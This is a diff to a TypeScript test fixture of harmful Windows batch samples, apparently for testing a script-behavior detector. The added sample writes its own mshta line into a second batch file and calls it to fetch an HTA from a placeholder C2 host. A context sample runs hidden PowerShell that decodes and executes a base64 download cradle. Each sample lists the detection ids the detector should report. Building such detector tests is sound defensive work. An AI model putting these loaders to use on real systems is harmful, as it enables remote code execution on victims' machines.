@@ -94,6 +94,14 @@ export const harmfulBatch: readonly HarmfulScript[] = [
     commands: ['p.exe'],
   },
   {
+    name: 'lines of itself written to a second batch file and called',
+    file: 'lines.bat',
+    source: `@echo off\r\nfindstr /b "mshta" "%~f0" > next.bat\r\ncall next.bat\r\nexit /b\r\nmshta ${C2}next.hta\r\n`,
+    ids: ['trace_runs_dropped_program', 'trace_abuses_system_tool'],
+    files: ['next.bat'],
+    commands: [`mshta ${C2}next.hta`],
+  },
+  {
     name: 'itself read by PowerShell',
     file: 'self.bat',
     source: `@echo off\r\npowershell -w hidden -nop -c "$l=[IO.File]::ReadAllLines('%~f0')[-1];iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($l.Substring(2))))"\r\nexit /b\r\n::${base64(`IEX (New-Object Net.WebClient).DownloadString('${C2}self.ps1')`)}`,
